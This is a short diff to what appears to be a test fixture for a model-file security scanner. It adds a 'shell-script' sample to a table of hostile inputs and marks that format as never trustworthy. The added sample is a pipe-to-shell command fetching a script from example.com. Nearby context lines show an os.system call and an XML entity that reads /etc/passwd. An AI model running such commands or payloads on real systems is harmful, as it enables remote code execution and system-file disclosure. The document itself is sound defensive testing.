@@ -151,6 +151,7 @@ HOSTILE: dict[str, tuple[str, bytes]] = {
     "python": ("handler.py", b"import os\nos.system('echo x')\n"),
     "r-data": ("m", b"A\n3\n262657\n197888\n5\nUTF-8\n5\n254\n254\n254\n"),
     "safetensors": ("m", safetensors({"w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\0" + EVIL)),
+    "shell-script": ("run.bat", b"curl http://example.com/x.sh | sh\n"),
     "xgboost": ("m", packed("models.zip")["xgboost.ubj"] + EVIL),
     "xgboost-binary": ("m", packed("exchange.zip")["xgboost-tree.model"] + EVIL),
     "xml-model": ("m", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a SYSTEM "file:///etc/passwd">]><PMML version="4.4">&a;</PMML>'),
@@ -206,6 +207,7 @@ NEVER_HONEST = {
     "opaque",
     "program",
     "python",
+    "shell-script",
 }
 """readers of what no scan can vouch for"""
 
